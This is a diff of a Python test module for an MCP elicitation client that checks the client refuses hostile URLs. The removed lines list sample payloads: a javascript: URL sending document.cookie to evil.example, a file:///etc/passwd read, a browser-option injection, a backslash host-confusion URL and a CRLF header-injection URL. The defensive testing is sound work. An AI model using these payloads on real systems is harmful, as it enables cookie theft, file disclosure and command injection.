@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from mcp_elicit_client.testing.hostile import SPOOFED_URLS
 from mcp_elicit_client.testing.scenarios.base import ADDRESS, HOST, URL_MODE, URLS, Group, visit
 from mcp_elicit_client.testing.trial import NotReachedError, Trial
 from mcp_elicit_client.testing.wish import Deed
@@ -103,54 +104,41 @@ async def _shown(trial: Trial) -> None:
     trial.expect(ADDRESS in trial.shown, "the user is shown the message, and not the URL")
 
 
-_HOSTILE: dict[str, tuple[str, str, str]] = {
-    "javascript": ("javascript:fetch('//evil.example/'+document.cookie)//4711", "javascript:", "CVE-2025-58444"),
-    "file": ("file:///etc/passwd#4711", "file:", "openai/codex#37077"),
-    "data": ("data:text/html,<script>4711</script>", "data:", "openai/codex#37077"),
-    "option": (
-        "--renderer-cmd-prefix=/tmp/4711",
-        "an option of the browser's in the place of a URL",
-        "CVE-2026-4519",
-    ),
-    "program": ("calc.exe?4711", "a program in the place of a URL", "CPython issue 80202"),
+_HOSTILE: dict[str, tuple[str, str]] = {
+    "javascript": ("A javascript: URL is refused.", "CVE-2025-58444"),
+    "file": ("A file: URL is refused.", "openai/codex#37077"),
+    "data": ("A data: URL is refused.", "openai/codex#37077"),
+    "option": ("An option of the browser's in the place of a URL is refused.", "CVE-2026-4519"),
+    "program": ("A program in the place of a URL is refused.", "CPython issue 80202"),
     "backslash": (
-        "https://evil.example\\@bank.example/4711",
-        "a backslash: Python reads bank.example, a browser goes to evil.example",
+        "A URL with a backslash is refused: Python reads one host, a browser goes to another.",
         "security facts, 4 (measured with Chromium)",
     ),
-    "line-break": (
-        "https://bank.example\r\nHost: evil.example/4711",
-        "line breaks, which browsers drop and terminals obey",
-        "security facts, 3 and 4",
-    ),
+    "line-break": ("A URL with line breaks is refused.", "security facts, 3 and 4"),
 }
 
 
-def _hostile(kind: str, url: str, what: str, source: str) -> None:
+def _hostile(kind: str, title: str, source: str) -> None:
     async def run(trial: Trial) -> None:
         trial.needs_user()
         await trial.accepts(visit())
         before = len(trial.watch.events)
-        reply = await trial.ask(visit(url), "accept")
+        reply = await trial.ask(visit(SPOOFED_URLS[kind]), "accept")
         opened = [each for each in trial.watch.events[before:] if each in trial.watch.opened("4711")]
         trial.expect(not opened, f"it was opened ({opened[0].name if opened else ''})")
         trial.expect(not reply.accepted, f"the server got {reply}")
 
     GROUP.add(
         f"url-{kind}-refused",
-        f"A URL with {what} is refused."
-        if kind in ("backslash", "line-break")
-        else f"Instead of a URL, {what}: refused."
-        if kind in ("option", "program")
-        else f"A {what} URL is refused.",
+        title,
         run,
         because='"The url parameter MUST contain a valid URL", and only http and https lead to a page to consent to',
         source=f"{URL_MODE}; {source}",
     )
 
 
-for _kind, (_url, _what, _source) in _HOSTILE.items():
-    _hostile(_kind, _url, _what, _source)
+for _kind, (_title, _source) in _HOSTILE.items():
+    _hostile(_kind, _title, _source)
 
 
 @GROUP.scenario(
